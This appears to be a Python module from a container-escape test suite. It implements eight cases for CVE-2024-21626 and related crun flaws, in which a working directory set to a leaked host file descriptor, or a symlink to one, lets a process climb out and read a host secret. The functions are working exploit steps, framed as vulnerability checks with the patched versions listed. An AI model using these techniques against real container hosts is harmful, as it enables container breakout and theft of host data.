# SPDX-License-Identifier: Apache-2.0
"""CVE-2024-21626: a working directory that is a descriptor of the runtime's leads out to the host."""
from escape.case import CRUN, Escape, Section
from escape.place import SECRET, Place

CVE = "CVE-2024-21626"
# runc 1.1.11 had the host's /sys/fs/cgroup under one of these.
NUMBERS = (7, 8, 9)
SETTING = "rules.process.mode"
PATCHED = ("1.1.12", "1.1.5+ds1-1+deb12u1")


def climbing(place: Place) -> str:
    """From wherever on the host the process stands."""
    return f"cat secret ../../../../../../../..{place.secret}"


def at_create(place: Place) -> bool:
    def reached(number: int) -> bool:
        place.bundle.change("/process/cwd", f"/proc/self/fd/{number}")
        return SECRET in place.run(climbing(place))

    return any(reached(number) for number in NUMBERS)


def by_a_link_of_the_image(place: Place) -> bool:
    way = place.rootfs / "way"
    place.bundle.change("/process/cwd", "/way")

    def reached(number: int) -> bool:
        way.unlink(missing_ok=True)
        way.symlink_to(f"/proc/self/fd/{number}")
        return SECRET in place.run(climbing(place))

    return any(reached(number) for number in NUMBERS)


def at_exec(place: Place) -> bool:
    place.start()
    done = [place.call("exec", "--cwd", f"/proc/self/fd/{number}", place.name, "sh", "-c", climbing(place)) for number in NUMBERS]
    return any(SECRET in each.out for each in done)


def by_a_link_made_after_the_start(place: Place) -> bool:
    """What the container's own root lays where the next exec begins."""
    place.start()
    place.call("exec", place.name, "ln", "-s", "/proc/self/fd/7", "/tmp/way").check()
    return SECRET in place.call("exec", "--cwd", "/tmp/way", place.name, "sh", "-c", climbing(place)).out


def handed_over_at_create(place: Place) -> bool:
    place.bundle.change("/process/cwd", "/proc/self/fd/3")
    return SECRET in place.run(climbing(place), "--preserve-fds", "1", opened=place.host)


def handed_over_behind_a_link(place: Place) -> bool:
    (place.rootfs / "way").symlink_to("/proc/self/fd/3")
    place.bundle.change("/process/cwd", "/way")
    return SECRET in place.run(climbing(place), "--preserve-fds", "1", opened=place.host)


def handed_over_at_exec(place: Place) -> bool:
    place.start()
    words = ("exec", "--preserve-fds", "1", "--cwd", "/proc/self/fd/3", place.name, "sh", "-c", climbing(place))
    return SECRET in place.call(*words, opened=place.host).out


def handed_over_to_a_document(place: Place) -> bool:
    place.start()
    file = place.process(cwd="/dev/fd/3", args=["sh", "-c", climbing(place)])
    return SECRET in place.call("exec", "--preserve-fds", "1", "--process", file, place.name, opened=place.host).out


SECTION = Section(
    "Working directory",
    (
        Escape("cwd-descriptor", CVE, "`process.cwd` is `/proc/self/fd/7` (8, 9)", at_create, SETTING, fixed=PATCHED),
        Escape(
            "cwd-link-of-the-image",
            CVE,
            "`process.cwd` is a link of the image to `/proc/self/fd/7`",
            by_a_link_of_the_image,
            SETTING,
            fixed=PATCHED,
        ),
        Escape("cwd-descriptor-exec", CVE, "`exec --cwd /proc/self/fd/7`", at_exec, SETTING, fixed=PATCHED),
        Escape("cwd-link-exec", CVE, "`exec --cwd` of a link that the container made", by_a_link_made_after_the_start, SETTING, fixed=PATCHED),
        Escape(
            "cwd-handed-over",
            CVE,
            "`process.cwd` is a directory of the host that `--preserve-fds` hands on",
            handed_over_at_create,
            SETTING,
            under=CRUN,
            fixed=("1.14.1",),
        ),
        Escape("cwd-handed-over-link", CVE, "the same behind a link of the image", handed_over_behind_a_link, SETTING, under=CRUN, fixed=("1.14.1",)),
        Escape("cwd-handed-over-exec", CVE, "the same at `exec`", handed_over_at_exec, SETTING, under=CRUN, fixed=("1.14.1",)),
        Escape(
            "cwd-handed-over-process",
            CVE,
            "the same by `exec --process` with `/dev/fd/3`, a link that the runtime itself makes",
            handed_over_to_a_document,
            SETTING,
            under=CRUN,
            fixed=("1.14.1",),
        ),
    ),
)
